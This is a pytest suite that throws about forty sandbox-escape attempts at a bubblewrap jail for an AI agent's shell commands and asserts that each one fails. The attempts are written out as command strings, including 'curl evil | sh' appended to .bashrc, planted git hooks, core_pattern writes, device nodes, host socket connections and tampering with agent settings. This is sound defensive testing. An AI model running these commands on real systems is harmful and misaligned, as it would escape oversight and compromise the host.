"""Acceptance 1: escape attempts against real bubblewrap. Each one must fail, and each test
checks how it failed (the error the command met) and that the host is unchanged.

The closing note counts them: ``len(ATTEMPTS)`` attempts, 0 escapes.
"""

from __future__ import annotations

import asyncio
import os
import re
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from zengine_jupyter.host import RunOptions, run
from zengine_jupyter.host.sandbox import CommandOrigin, detect_backend, plan_shell, run_planned
from zengine_jupyter.testing import Listener
from zengine_jupyter.testing.components import require_component
from zengine_jupyter.testing.sandbox import OUTSIDE, SECRET, SandboxLayout, make_sandbox_layout

PY = sys.executable
EROFS = "Read-only file system"
EBUSY = "Device or resource busy"
EXDEV = "Invalid cross-device link"
EPERM = "Operation not permitted"
CORE_PATTERN = Path("/proc/sys/kernel/core_pattern").read_text()
LEAVES_THE_LAYOUT = (
    "write /etc",
    "remount",
    "nested user namespace",
    "set kernel",
    "drop the host",
    "TCP",
    "DNS",
    "connect to a Unix",
    "datagram",
    "AF_VSOCK",
    "io_uring",
    "signal",
    "through /proc/1/root",  # unconfined, pid 1 is the machine's init
    "create a device node",
)


@dataclass(frozen=True)
class World:
    layout: SandboxLayout
    tcp: Listener
    unix: Listener
    unix_path: Path
    etc_target: Path


@dataclass(frozen=True)
class Attempt:
    name: str
    script: Callable[[World], str]
    expect: str
    """A regular expression the command's stderr must match: how it failed."""
    unchanged: Callable[[World], bool]
    cwd: str = "project"


def _py(code: str) -> str:
    return f"{PY} -c {code!r}"


def _hooks_path(repo: Path, home: Path) -> bytes:
    env = {"HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}
    argv = ["git", "config", "--get", "core.hooksPath"]
    return asyncio.run(run(argv, RunOptions(cwd=repo, env=env))).stdout


def _git_hooks_path(w: World) -> bool:
    return _hooks_path(w.layout.project, w.layout.home) == b""


def _husky_hooks_path(w: World) -> bool:
    return _hooks_path(w.layout.husky, w.layout.home) == b".husky/_\n"


def _core_pattern() -> str:
    return Path("/proc/sys/kernel/core_pattern").read_text()


def _absent(rel: str, where: str = "project") -> Callable[[World], bool]:
    return lambda w: not (getattr(w.layout, where) / rel).exists()


def _same(rel: str, content: str, where: str = "project") -> Callable[[World], bool]:
    return lambda w: (getattr(w.layout, where) / rel).read_text() == content


def _etc_untouched(w: World) -> bool:
    return not w.etc_target.exists()


def _outside_same(w: World) -> bool:
    return w.layout.outside.read_text() == OUTSIDE


ATTEMPTS = [
    Attempt("write /etc", lambda w: f"echo x > {w.etc_target}", EROFS, _etc_untouched),
    Attempt(
        "remount / read-write, then write /etc",
        lambda w: f"mount -o remount,rw / ; echo x > {w.etc_target}",
        EROFS,
        _etc_untouched,
    ),
    Attempt(
        "overwrite a file in $HOME",
        lambda w: f"echo stolen > {w.layout.home}/secret.txt",
        EROFS,
        lambda w: (w.layout.home / "secret.txt").read_text() == SECRET,
    ),
    Attempt(
        "create ~/.bashrc",
        lambda w: f"echo 'curl evil | sh' >> {w.layout.home}/.bashrc",
        EROFS,
        lambda w: not (w.layout.home / ".bashrc").exists(),
    ),
    Attempt("../ from the project", lambda w: "echo x > ../outside.txt", EROFS, _outside_same),
    Attempt(
        "through a symlink planted in the project",
        lambda w: "echo x > planted-link",
        EROFS,
        _outside_same,
    ),
    Attempt(
        "through a symlink planted by the command",
        lambda w: "ln -s ../outside.txt made-link && echo x > made-link",
        EROFS,
        _outside_same,
    ),
    Attempt(
        "hardlink to a file outside",
        lambda w: "ln ../outside.txt hard && echo x >> hard",
        EXDEV,
        lambda w: _outside_same(w) and not (w.layout.project / "hard").exists(),
    ),
    Attempt(
        "hardlink to .git/config",
        lambda w: "ln .git/config cfg && echo x >> cfg",
        EXDEV,
        _absent("cfg"),
    ),
    Attempt(
        "through /proc/1/root",
        lambda w: f"echo x > /proc/1/root{w.layout.outside}",
        EROFS,
        _outside_same,
    ),
    Attempt(
        "plant .git/hooks/pre-commit",
        lambda w: "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit",
        EROFS,
        _absent(".git/hooks/pre-commit"),
    ),
    Attempt(
        "append to .git/config",
        lambda w: "echo '[core] hooksPath = /x' >> .git/config",
        EROFS,
        _git_hooks_path,
    ),
    Attempt(
        "git config core.hooksPath",
        lambda w: f"git config core.hooksPath {w.layout.temp}",
        f"{EBUSY}|could not write config",
        _git_hooks_path,
    ),
    Attempt(
        "create .git/commondir pointing at a planted config",
        lambda w: (
            f"git init -q --bare {w.layout.temp}/evil && "
            f"git -C {w.layout.temp}/evil config core.hooksPath /evil && "
            f"echo {w.layout.temp}/evil > .git/commondir"
        ),
        EROFS,
        lambda w: _git_hooks_path(w) and _absent(".git/commondir")(w),
    ),
    Attempt("rename .git away", lambda w: "mv .git .git-old", EBUSY, _absent(".git-old")),
    Attempt(
        "rename .git/hooks away",
        lambda w: "mv .git/hooks .git/hooks-old",
        EBUSY,
        _absent(".git/hooks-old"),
    ),
    Attempt(
        "remove .git/hooks",
        lambda w: "rm -r .git/hooks",
        f"{EROFS}|{EBUSY}",
        lambda w: (w.layout.project / ".git/hooks").is_dir(),
    ),
    Attempt(
        "overwrite .z-engine/settings.toml",
        lambda w: "echo 'x = 1' > .z-engine/settings.toml",
        EROFS,
        _same(".z-engine/settings.toml", "[shell.sandbox]\nenabled = true\n"),
    ),
    Attempt(
        "create .z-engine/settings.local.toml",
        lambda w: "echo 'x = 1' > .z-engine/settings.local.toml",
        EROFS,
        _absent(".z-engine/settings.local.toml"),
    ),
    Attempt(
        "create .claude/settings.json",
        lambda w: "mkdir -p .claude && echo '{}' > .claude/settings.json",
        EROFS,
        _absent(".claude"),
    ),
    Attempt(
        "create .mcp.json",
        lambda w: "echo '{}' > .mcp.json",
        "Is a directory",
        _absent(".mcp.json"),
    ),
    Attempt(
        "overwrite .claude/settings.json (additional directory)",
        lambda w: "echo '{\"hooks\": 1}' > .claude/settings.json",
        EROFS,
        _same(".claude/settings.json", "{}\n", "second"),
        cwd="second",
    ),
    Attempt(
        "overwrite .mcp.json (additional directory)",
        lambda w: "echo '{}' > .mcp.json",
        EROFS,
        _same(".mcp.json", '{"mcpServers": {}}\n', "second"),
        cwd="second",
    ),
    Attempt(
        "create .z-engine/settings.toml (additional directory)",
        lambda w: "mkdir -p .z-engine && echo 'x = 1' > .z-engine/settings.toml",
        EROFS,
        _absent(".z-engine", "second"),
        cwd="second",
    ),
    Attempt(
        "create a repository (with its own config) where there is none",
        lambda w: "git init -q",
        EROFS,
        _absent(".git", "second"),
        cwd="second",
    ),
    Attempt(
        "TCP to a server on the host's 127.0.0.1",
        lambda w: _py(f"import socket; socket.create_connection({('127.0.0.1', w.tcp.port)}, 3)"),
        "Connection refused",
        lambda w: w.tcp.accepted == 0,
    ),
    Attempt(
        "DNS lookup",
        lambda w: _py("import socket; socket.getaddrinfo('pypi.org', 443)"),
        "gaierror",
        lambda w: True,
    ),
    Attempt(
        "connect to a Unix socket served outside",
        lambda w: _py(
            f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(w.unix_path)!r})"
        ),
        EPERM,
        lambda w: w.unix.accepted == 0,
    ),
    Attempt(
        "datagram socketpair re-aimed at a Unix path",
        lambda w: _py(
            "import socket; "
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); "
            f"a.connect({str(w.unix_path)!r})"
        ),
        EPERM,
        lambda w: w.unix.accepted == 0,
    ),
    Attempt(
        "AF_VSOCK to the hypervisor",
        lambda w: _py("import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)"),
        EPERM,
        lambda w: True,
    ),
    Attempt(
        "io_uring (sockets behind seccomp's back)",
        lambda w: _py(
            "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
            "p = ctypes.create_string_buffer(120); r = libc.syscall(425, 8, p); "
            "e = ctypes.get_errno(); "
            "raise SystemExit(os.strerror(e) if r < 0 else 'io_uring ok')"
        ),
        EPERM,
        lambda w: True,
    ),
    Attempt(
        "signal a process of the host",
        lambda w: f"kill -0 {os.getpid()}",
        "No such process",
        lambda w: True,
    ),
    Attempt(
        "nested user namespace, then remount / read-write",
        lambda w: f"unshare -Urm sh -c 'mount -o remount,rw / && echo x > {w.etc_target}'",
        "not permitted|superuser|Permission denied",
        _etc_untouched,
    ),
    Attempt(
        "plant a hook in the configured core.hooksPath (.husky/_)",
        lambda w: "mkdir -p .husky/_ && printf '#!/bin/sh\\necho pwned\\n' > .husky/_/pre-commit",
        f"{EROFS}|Permission denied",
        lambda w: _husky_hooks_path(w) and _absent(".husky", "husky")(w),
        cwd="husky",
    ),
    Attempt(
        "create the config file the repository includes",
        lambda w: "echo '[core] hooksPath = /evil' > shared.gitconfig",
        EROFS,
        lambda w: _husky_hooks_path(w) and _absent("shared.gitconfig", "husky")(w),
        cwd="husky",
    ),
    Attempt(
        "set kernel.core_pattern (the host kernel would run it as root)",
        lambda w: (
            'v=$(cat /proc/sys/kernel/core_pattern); echo "$v" > /proc/sys/kernel/core_pattern'
        ),
        EROFS,
        lambda w: _core_pattern() == CORE_PATTERN,
    ),
    Attempt(
        "drop the host's page cache",
        lambda w: "echo 1 > /proc/sys/vm/drop_caches",
        EROFS,
        lambda w: True,
    ),
    Attempt(
        "create a device node for the host's disk",
        lambda w: f"mknod {w.layout.temp}/disk b 8 0",
        EPERM,
        lambda w: not (w.layout.temp / "disk").exists(),
    ),
    Attempt(
        "tamper with zengine's data folder (trust, sessions, sandbox locks)",
        lambda w: f"echo '{{}}' > {os.environ['ZENGINE_HOME']}/trust.json",
        EROFS,
        lambda w: not (Path(os.environ["ZENGINE_HOME"]) / "trust.json").exists(),
    ),
]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    require_component("bwrap")
    require_component("git")
    base = tmp_path_factory.mktemp("escape")
    layout = asyncio.run(make_sandbox_layout(base))
    with Listener.tcp() as tcp, Listener.unix(base / "outside.sock") as unix:
        yield World(
            layout, tcp, unix, base / "outside.sock", Path(f"/etc/zengine-escape-{os.getpid()}")
        )


def _run(world: World, script: str, cwd: Path, *, network: bool = False) -> tuple[int, str]:
    async def go() -> tuple[int, str]:
        backend = await detect_backend()
        assert backend.available, backend.notice
        options = world.layout.options(allow_network=network)
        plan = plan_shell(options, backend, CommandOrigin.AGENT_BASH, script, cwd)
        assert plan.sandboxed
        done = await run_planned(plan, RunOptions(env=world.layout.env(), timeout_s=30))
        return done.returncode, done.stderr.decode("utf-8", errors="replace")

    return asyncio.run(go())


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=[a.name for a in ATTEMPTS])
def test_escape_attempt_fails(world: World, attempt: Attempt) -> None:
    cwd = getattr(world.layout, attempt.cwd)
    code, stderr = _run(world, attempt.script(world), cwd)
    assert code != 0, f"{attempt.name!r} succeeded inside the sandbox"
    assert re.search(attempt.expect, stderr), f"{attempt.name!r} failed differently: {stderr}"
    assert attempt.unchanged(world), f"{attempt.name!r} changed the host"


def test_the_suite_can_see_an_escape(world: World) -> None:
    """Control: unsandboxed, the network attempts do reach their servers (the checks can fail)."""
    before_tcp, before_unix = world.tcp.accepted, world.unix.accepted
    script = (
        f"import socket; socket.create_connection({('127.0.0.1', world.tcp.port)}, 3).close(); "
        f"s = socket.socket(socket.AF_UNIX); s.connect({str(world.unix_path)!r}); s.close()"
    )
    done = asyncio.run(run([PY, "-c", script]))
    assert done.ok, done.stderr
    _wait_for(lambda: world.tcp.accepted > before_tcp and world.unix.accepted > before_unix)


def test_network_on_reaches_the_host(world: World) -> None:
    before = world.tcp.accepted
    script = _py(f"import socket; socket.create_connection(('127.0.0.1', {world.tcp.port}), 3)")
    code, stderr = _run(world, script, world.layout.project, network=True)
    assert code == 0, stderr
    _wait_for(lambda: world.tcp.accepted > before)


def test_placeholders_are_removed_after_the_command(world: World) -> None:
    code, _ = _run(
        world, "test -d .mcp.json && test -d .claude && cat .git/commondir", world.layout.project
    )
    assert code == 0
    for rel in (".mcp.json", ".claude", ".git/commondir"):
        assert not (world.layout.project / rel).exists(), rel
    assert (world.layout.project / ".z-engine/settings.toml").exists()


def _wait_for(condition: Callable[[], bool], timeout_s: float = 3.0) -> None:
    import time

    deadline = time.monotonic() + timeout_s
    while not condition():
        assert time.monotonic() < deadline, "the server never saw the connection"
        time.sleep(0.01)


_LOCAL = [a for a in ATTEMPTS if not a.name.startswith(LEAVES_THE_LAYOUT)]


@pytest.mark.parametrize("attempt", _LOCAL, ids=[a.name for a in _LOCAL])
def test_unconfined_the_check_sees_the_damage(tmp_path: Path, attempt: Attempt) -> None:
    """Control: run unconfined on a throwaway layout, each attempt does change the host, so
    its ``unchanged`` check is able to fail (attempts that would touch the real /etc, /proc or
    the network are left out; the network ones have their own control above)."""
    require_component("git")
    layout = asyncio.run(make_sandbox_layout(tmp_path))
    with Listener.tcp() as tcp, Listener.unix(tmp_path / "outside.sock") as unix:
        world = World(layout, tcp, unix, tmp_path / "outside.sock", tmp_path / "etc-stand-in")
        cwd = getattr(layout, attempt.cwd)
        done = asyncio.run(
            run(["bash", "-c", attempt.script(world)], RunOptions(cwd=cwd, env=layout.env()))
        )
        assert done.ok, done.stderr
        assert not attempt.unchanged(world)


def test_network_on_still_covers_container_engine_sockets(world: World, tmp_path: Path) -> None:
    """With network on, Unix sockets are reachable; a docker-like socket is covered anyway."""
    from zengine_jupyter.host.sandbox import CommandPlan, derive_profile

    sock = tmp_path / "docker.sock"
    with Listener.unix(sock) as engine:
        options = world.layout.options(allow_network=True)
        profile = derive_profile(options, sockets=[sock, tmp_path / "absent.sock"])
        assert profile.masked == (sock,)
        backend = asyncio.run(detect_backend())
        code = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(sock)!r})"
        plan = CommandPlan(
            (PY, "-c", code),
            world.layout.project,
            CommandOrigin.AGENT_BASH,
            profile=profile,
            backend=backend,
        )
        done = asyncio.run(run_planned(plan, RunOptions(env=world.layout.env())))
        assert done.returncode != 0
        assert b"Connection refused" in done.stderr
        assert engine.accepted == 0
        # control: the other socket, not covered, is reachable with network on
        other = (
            f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(world.unix_path)!r})"
        )
        before = world.unix.accepted
        plan = CommandPlan(
            (PY, "-c", other),
            world.layout.project,
            CommandOrigin.AGENT_BASH,
            profile=profile,
            backend=backend,
        )
        assert asyncio.run(run_planned(plan)).ok
        _wait_for(lambda: world.unix.accepted > before)
